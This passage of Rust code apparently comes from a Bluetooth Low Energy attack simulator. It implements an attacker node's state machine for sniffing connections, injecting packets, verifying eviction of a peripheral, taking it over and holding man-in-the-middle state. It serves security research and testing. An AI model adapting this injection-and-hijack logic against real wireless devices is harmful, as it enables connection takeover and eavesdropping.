                    self.pending_terminate = None;
                    self.perform_slave_takeover(ctx);
                    return;
                }
            }
        }
        self.schedule_event(ctx);
    }
}

// The MITM handoff is stored outside the mission because the mission is
// consumed at takeover.
impl Attacker {
    /// Accesses captured MITM state (scenario D) if armed.
    pub fn mitm_handoff(&self) -> Option<&MitmHandoff> {
        self.mitm_handoff.as_ref()
    }
}

impl RadioListener for Attacker {
    fn on_start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.start(ctx);
    }

    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        if let Phase::TakenOver = self.phase {
            if let Some(ll) = self.takeover_ll.as_mut() {
                let host = self
                    .takeover_host
                    .as_mut()
                    .expect("takeover host exists with takeover ll");
                ll.handle(ctx, event, host.as_mut());
            }
            self.pump_takeover(ctx);
            return;
        }
        match event {
            RadioEvent::Timer { key, .. } => {
                let Some(purpose) = self.timer_purpose(key) else {
                    return;
                };
                match purpose {
                    T_SCAN_HOP => {
                        if let Phase::Scanning { channel_pos } = self.phase {
                            if self.resync.note_hop() {
                                self.campaign_expired(ctx);
                            } else {
                                self.scan(ctx, (channel_pos + 1) % 3);
                            }
                        }
                    }
                    T_RESYNC => {
                        if let Phase::BackingOff = self.phase {
                            self.resync.begin_campaign();
                            self.scan(ctx, 0);
                        }
                    }
                    T_EVENT => match self.phase {
                        Phase::ObserveArmed { plan } => self.open_observe_window(ctx, plan),
                        Phase::InjectArmed { plan } => self.fire_injection(ctx, plan),
                        _ => {}
                    },
                    T_CLOSE => match self.phase {
                        Phase::Observing { .. } => self.close_observe_window(ctx),
                        Phase::InjectListening { attempt } => {
                            // No response at all.
                            ctx.stop_rx();
                            if matches!(self.mission, Mission::HijackSlave { .. }) {
                                // Possibly a successful eviction: verify.
                                self.pending_terminate = Some(attempt);
                                self.quiet_events = 0;
                                self.mission_state = MissionState::VerifyingTermination;
                            } else {
                                self.record_attempt(ctx, AttemptOutcome::NoResponse);
                                let lost = {
                                    match self.conn.as_mut() {
                                        Some(conn) => {
                                            conn.missed_event();
                                            conn.missed_streak > MAX_MISSED_EVENTS
                                        }
                                        None => false,
                                    }
                                };
                                if lost {
                                    ctx.emit(|| TelemetryEvent::SnifferLost {
                                        reason: LossReason::DuringInjection,
                                    });
                                    self.connection_lost(ctx);
                                    return;
                                }
                            }
                            self.schedule_event(ctx);
                        }
                        _ => {}
                    },
                    _ => {}
                }
            }
            RadioEvent::TxDone { at } => {
                if let Phase::InjectSent { attempt, plan } = self.phase {
                    let conn = self.conn.as_ref().expect("injecting requires connection");
                    ctx.start_rx(
                        plan.channel,
                        AccessFilter::One(conn.params.access_address),
                        conn.params.crc_init,
                    );
                    self.phase = Phase::InjectListening { attempt };
                    let _ = at;
                    let now = ctx.now();
                    self.arm_from(ctx, now, Duration::from_micros(2_000), T_CLOSE);
                }
            }
            RadioEvent::FrameReceived(frame) => match &self.phase {
                Phase::Scanning { .. } => {
                    if let SnifferEvent::ConnectionDetected(tracked) = self.sniffer.process(&frame)
                    {
                        let access_address = tracked.params.access_address.value();
                        ctx.emit(|| TelemetryEvent::SnifferSync { access_address });
                        self.end_scan_span(ctx);
                        ctx.span_exit(self.span_follow);
                        self.span_follow = ctx.span_enter(SpanKind::AttackerFollow, 0);
                        self.stats.record_connection_followed();
                        self.resync.synced();
                        self.conn = Some(*tracked);
                        self.schedule_event(ctx);
                    }
                }
                Phase::Observing { .. } => self.handle_observe_frame(ctx, frame),
                Phase::InjectListening { attempt } => {
                    let attempt = *attempt;
                    ctx.stop_rx();
                    self.handle_injection_response(ctx, attempt, &frame);
                }
                _ => {}
            },
        }
    }
}
